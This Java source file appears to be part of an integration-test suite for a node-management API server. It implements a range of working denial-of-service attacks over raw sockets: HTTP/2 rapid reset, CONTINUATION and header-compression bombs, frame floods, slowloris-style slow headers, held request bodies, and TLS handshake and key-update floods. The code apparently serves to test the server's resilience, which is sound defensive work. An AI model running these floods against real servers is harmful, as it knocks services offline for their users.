package io.nodekeeper.it;

import io.nodekeeper.client.tls.KeyUpdateClient;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLSocket;

/** Attacks that an HTTP client library cannot perform. */
final class RawAttacks {
    /** Connections at a time that send frames as fast as they can. */
    private static final int FLOODS = 8;

    /** Characters of the largest bodies: somewhat less than a body may have. */
    static final int LARGEST = 2_900_000;

    private RawAttacks() {}

    /** What is sent again and again on a connection of HTTP/2. */
    enum Frames {
        RAPID_RESET,
        CONTINUATION,
        EMPTY_CONTINUATION,
        SETTINGS,
        PING,
        PRIORITY,
        WINDOW_UPDATE,
        EMPTY_DATA,
        UNKNOWN,
        HEADER_BOMB,
        LONG_ACCEPT
    }

    /** Sends such frames until the server closes the connection, and connects again. */
    static Map<String, Integer> frames(Prey prey, long until, Frames kind) throws InterruptedException {
        return Prey.repeat(FLOODS, Integer.MAX_VALUE, until, thread -> {
            try (RawHttp2 connection = new RawHttp2(prey).reading()) {
                try {
                    flood(connection, kind, until);
                    return connection.end(new IllegalStateException("open"));
                } catch (IOException e) {
                    // What the server said comes a little later than the end of what it takes.
                    TimeUnit.MILLISECONDS.sleep(50);
                    return connection.end(e);
                }
            }
        });
    }

    private static void flood(RawHttp2 connection, Frames kind, long until) throws IOException {
        byte[] headers = RawHttp2.request("GET", "/api/v1/nodes?limit=1", Prey.HEAVY);
        int open = connection.nextStream();
        if (kind == Frames.CONTINUATION || kind == Frames.EMPTY_CONTINUATION) {
            connection.frame(RawHttp2.HEADERS, 0, open, headers);
        } else if (kind == Frames.EMPTY_DATA) {
            connection.frame(
                    RawHttp2.HEADERS,
                    RawHttp2.END_HEADERS,
                    open,
                    RawHttp2.request("POST", "/api/v1/nodes", Prey.HEAVY));
        } else if (kind == Frames.LONG_ACCEPT) {
            connection.frame(
                    RawHttp2.HEADERS,
                    RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
                    open,
                    accepting(entry("accept", "application/vnd.kubernetes.protobuf" + ",a".repeat(1_980))));
        }
        ByteArrayOutputStream filler = new ByteArrayOutputStream();
        RawHttp2.header(filler, "x", "y".repeat(8_000));
        while (System.nanoTime() < until) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < 200; i++) {
                batch.writeBytes(
                        switch (kind) {
                            case RAPID_RESET -> {
                                int stream = connection.nextStream();
                                batch.writeBytes(RawHttp2.bytes(
                                        RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, stream, headers));
                                yield RawHttp2.bytes(RawHttp2.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8});
                            }
                            case CONTINUATION -> RawHttp2.bytes(RawHttp2.CONTINUATION, 0, open, filler.toByteArray());
                            case EMPTY_CONTINUATION -> RawHttp2.bytes(RawHttp2.CONTINUATION, 0, open);
                            case SETTINGS -> RawHttp2.bytes(RawHttp2.SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 100});
                            case PING -> RawHttp2.bytes(RawHttp2.PING, 0, 0, new byte[8]);
                            case PRIORITY ->
                                RawHttp2.bytes(
                                        RawHttp2.PRIORITY, 0, connection.nextStream(), new byte[] {0, 0, 0, 0, 1});
                            case WINDOW_UPDATE -> RawHttp2.bytes(RawHttp2.WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1});
                            case EMPTY_DATA -> RawHttp2.bytes(RawHttp2.DATA, 0, open);
                            case UNKNOWN -> RawHttp2.bytes(200, 0, 0);
                            case HEADER_BOMB -> bomb(connection);
                            case LONG_ACCEPT ->
                                RawHttp2.bytes(
                                        RawHttp2.HEADERS,
                                        RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
                                        connection.nextStream(),
                                        accepting(latest(15)));
                        });
            }
            connection.write(batch.toByteArray());
            connection.flush();
        }
    }

    /** A header of 4 KB that enters the table, and then stands in one byte for itself 4,000 times. */
    private static byte[] bomb(RawHttp2 connection) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(RawHttp2.request("GET", "/api/v1/nodes?limit=1", Prey.HEAVY));
        block.writeBytes(entry("x", "y".repeat(4_000)));
        block.writeBytes(latest(8_000));
        return RawHttp2.bytes(
                RawHttp2.HEADERS,
                RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
                connection.nextStream(),
                block.toByteArray());
    }

    /** A header that enters the table. */
    private static byte[] entry(String name, String value) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        RawHttp2.header(block, name, value);
        byte[] entry = block.toByteArray();
        entry[0] = 0x40;
        return entry;
    }

    /** The latest header of the table, in one byte each time. */
    private static byte[] latest(int times) {
        byte[] block = new byte[times];
        Arrays.fill(block, (byte) (0x80 | 62));
        return block;
    }

    /** A request without a credential with those Accept headers. */
    private static byte[] accepting(byte[] headers) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(RawHttp2.request("GET", "/", ""));
        block.writeBytes(headers);
        return block.toByteArray();
    }

    /** What is done again and again beside. */
    interface Meanwhile {
        void act() throws Exception;
    }

    /** Opens streams for {@code path} on many connections and reads none of the answers. */
    static Map<String, Integer> watches(
            Prey prey, long until, int connections, int streams, String path, Meanwhile meanwhile) throws Exception {
        Map<String, Integer> answers = new TreeMap<>();
        List<RawHttp2> open = new ArrayList<>();
        try {
            for (int i = 0; i < connections; i++) {
                RawHttp2 connection = new RawHttp2(prey);
                open.add(connection);
                for (int j = 0; j < streams; j++) {
                    connection.frame(
                            RawHttp2.HEADERS,
                            RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
                            connection.nextStream(),
                            RawHttp2.request("GET", path, Prey.HEAVY));
                    // As much of each answer as the server has.
                    connection.frame(RawHttp2.WINDOW_UPDATE, 0, 0, new byte[] {1, 0, 0, 0});
                }
                connection.flush();
                answers.merge("asked", streams, Integer::sum);
            }
            while (System.nanoTime() < until) {
                meanwhile.act();
                TimeUnit.MILLISECONDS.sleep(2);
            }
        } catch (IOException e) {
            answers.merge("cut off", 1, Integer::sum);
        } finally {
            for (RawHttp2 connection : open) {
                connection.close();
            }
        }
        return answers;
    }

    /** Sends all but the last byte of large bodies. */
    static Map<String, Integer> heldBodies(Prey prey, long until, int count, String token) throws Exception {
        List<Socket> open = new ArrayList<>();
        byte[] part = " ".repeat(100_000).getBytes(StandardCharsets.US_ASCII);
        Map<String, Integer> answers = new TreeMap<>();
        try {
            for (int i = 0; i < count && System.nanoTime() < until; i++) {
                SSLSocket socket = prey.socket("http/1.1");
                open.add(socket);
                OutputStream out = socket.getOutputStream();
                String head = "POST /api/v1/nodes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                        + (token.isEmpty() ? "" : "Authorization: Bearer " + token + "\r\n")
                        + "Content-Length: 2900001\r\n\r\n";
                try {
                    out.write(head.getBytes(StandardCharsets.US_ASCII));
                    for (int sent = 0; sent < 29; sent++) {
                        out.write(part);
                    }
                    answers.merge("held", 1, Integer::sum);
                } catch (IOException e) {
                    answers.merge("cut off", 1, Integer::sum);
                }
            }
            while (System.nanoTime() < until) {
                TimeUnit.MILLISECONDS.sleep(100);
            }
        } finally {
            closeAll(open);
        }
        return answers;
    }

    /** Opens streams with bodies that do not come, on many connections without a credential. */
    static Map<String, Integer> heldStreams(Prey prey, long until, int connections, int streams) throws Exception {
        List<RawHttp2> open = Collections.synchronizedList(new ArrayList<>());
        byte[] headers = RawHttp2.request("POST", "/api/v1/nodes?x=" + "y".repeat(500), "");
        try {
            // All of them, which may take longer than the other attacks.
            long opened = Math.max(until, System.nanoTime() + TimeUnit.SECONDS.toNanos(20));
            Map<String, Integer> answers = Prey.repeat(FLOODS, connections, opened, thread -> {
                RawHttp2 connection = new RawHttp2(prey);
                open.add(connection);
                ByteArrayOutputStream batch = new ByteArrayOutputStream();
                for (int i = 0; i < streams; i++) {
                    batch.writeBytes(
                            RawHttp2.bytes(RawHttp2.HEADERS, RawHttp2.END_HEADERS, connection.nextStream(), headers));
                }
                connection.write(batch.toByteArray());
                connection.flush();
                return "held";
            });
            TimeUnit.NANOSECONDS.sleep(until - System.nanoTime());
            return answers;
        } finally {
            for (RawHttp2 connection : open) {
                connection.abort();
            }
        }
    }

    static Map<String, Integer> slowHeaders(Prey prey, long until, int count) throws Exception {
        List<Socket> open = new ArrayList<>();
        Map<String, Integer> answers = new TreeMap<>();
        try {
            for (int i = 0; i < count && System.nanoTime() < until; i++) {
                SSLSocket socket = prey.socket("http/1.1");
                open.add(socket);
                socket.getOutputStream().write("GET / HTTP/1.1\r\nX: ".getBytes(StandardCharsets.US_ASCII));
            }
            answers.put("open", open.size());
            while (System.nanoTime() < until) {
                for (Socket socket : open) {
                    try {
                        socket.getOutputStream().write('x');
                    } catch (IOException e) {
                        answers.merge("cut off", 1, Integer::sum);
                    }
                }
                TimeUnit.MILLISECONDS.sleep(500);
            }
        } finally {
            closeAll(open);
        }
        return answers;
    }

    static Map<String, Integer> pipeline(Prey prey, long until) throws InterruptedException {
        byte[] requests = "GET /api/v1/nodes/none HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer heavy\r\n\r\n"
                .repeat(1_000)
                .getBytes(StandardCharsets.US_ASCII);
        return Prey.repeat(FLOODS, Integer.MAX_VALUE, until, thread -> {
            try (SSLSocket socket = prey.socket("http/1.1")) {
                while (System.nanoTime() < until) {
                    socket.getOutputStream().write(requests);
                }
            }
            return "open";
        });
    }

    static Map<String, Integer> chunks(Prey prey, long until) throws InterruptedException {
        byte[] chunk = ("1;" + "x".repeat(8_000) + "\r\n \r\n").repeat(10).getBytes(StandardCharsets.US_ASCII);
        return Prey.repeat(FLOODS, Integer.MAX_VALUE, until, thread -> {
            try (SSLSocket socket = prey.socket("http/1.1")) {
                socket.getOutputStream()
                        .write(("POST /api/v1/nodes HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer heavy\r\n"
                                        + "Transfer-Encoding: chunked\r\n\r\n")
                                .getBytes(StandardCharsets.US_ASCII));
                while (System.nanoTime() < until) {
                    socket.getOutputStream().write(chunk);
                }
            }
            return "open";
        });
    }

    static Map<String, Integer> handshakes(Prey prey, long until) throws InterruptedException {
        // The beginning of a record that says it has 16 KB.
        byte[] hello = {22, 3, 1, 64, 0, 1, 0, 63, (byte) 252};
        return Prey.repeat(FLOODS, 20_000, until, thread -> {
            if (thread % 2 == 0) {
                try (Socket socket = prey.plain()) {
                    socket.getOutputStream().write(hello);
                }
                return "left";
            }
            prey.socket("h2").close();
            return "done";
        });
    }

    /** Sends key updates in the record that ends the handshake, on one new connection after the other. */
    static Map<String, Integer> keyUpdatesInHandshake(Prey prey, long until) throws InterruptedException {
        return Prey.repeat(FLOODS, Integer.MAX_VALUE, until, thread -> {
            new KeyUpdateClient(prey.port(), KeyUpdateClient.RECORD - 100).close();
            return "done";
        });
    }

    /** Sends a record full of key updates on one new connection after the other, after a request if there is a token. */
    static Map<String, Integer> keyUpdates(Prey prey, long until, String token) throws InterruptedException {
        return Prey.repeat(FLOODS, Integer.MAX_VALUE, until, thread -> {
            try (KeyUpdateClient client = new KeyUpdateClient(prey.port())) {
                if (!token.isEmpty()) {
                    client.send("GET /api/v1/nodes?limit=1 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token
                            + "\r\n\r\n");
                    client.read(12);
                }
                client.updates(KeyUpdateClient.RECORD);
                return client.ends() ? "closed" : "open";
            }
        });
    }

    static Map<String, Integer> idle(Prey prey, long until, int count) throws Exception {
        List<Socket> open = Collections.synchronizedList(new ArrayList<>());
        try {
            // All of them, which may take longer than the other attacks.
            long opened = Math.max(until, System.nanoTime() + TimeUnit.SECONDS.toNanos(20));
            Prey.repeat(FLOODS, count, opened, thread -> {
                open.add(prey.socket("h2"));
                return "open";
            });
            TimeUnit.NANOSECONDS.sleep(until - System.nanoTime());
            return Map.of("open", open.size());
        } finally {
            closeAll(open);
        }
    }

    private static void closeAll(List<Socket> open) throws IOException {
        for (Socket socket : open) {
            if (socket instanceof SSLSocket && !socket.isClosed()) {
                socket.setSoLinger(true, 0);
            }
            socket.close();
        }
    }
}
